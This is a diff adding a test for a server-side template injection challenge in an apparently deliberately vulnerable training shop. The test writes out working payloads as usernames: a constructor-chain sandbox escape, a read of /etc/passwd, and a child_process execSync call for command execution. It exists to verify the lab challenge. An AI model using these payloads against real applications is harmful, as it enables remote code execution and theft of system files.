@@ -71,3 +71,23 @@ describe('profileCspXssChallenge', () => {
     expect(await t.solved('profileCspXssChallenge')).toBe(true)
   })
 })
+
+describe('profileTemplateInjectionChallenge', () => {
+  const rename = async (cookie: string, username: string) => {
+    expect((await api.post('/profile').set('Cookie', cookie).type('form').send({ username })).status).toBe(303)
+    return (await api.get('/profile').set('Cookie', cookie)).text
+  }
+
+  it('evaluates {{ }} in the sandbox; process, require and files give only the decoys', async () => {
+    const cookie = await cookieFor(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
+    expect(await rename(cookie, 'Sum {{ 6 * 7 }}')).toContain('Sum 42')
+    expect(await rename(cookie, "{{ this.constructor.constructor('return process')().cwd() }}")).toContain('/srv/pulp-juice-shop')
+    expect(await rename(cookie, "{{ require('fs').readFileSync('/etc/passwd').split('\\n')[3] }}")).toContain('pulp:x:1001')
+    expect(await rename(cookie, "{{ typeof require('http') }}")).toContain("[Error: Cannot find module 'http']")
+    expect(await t.solved('profileTemplateInjectionChallenge')).toBe(false)
+
+    const page = await rename(cookie, "{{ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}")
+    expect(page).toContain('uid=1001(pulp) gid=1001(pulp)')
+    expect(await t.solved('profileTemplateInjectionChallenge')).toBe(true)
+  })
+})
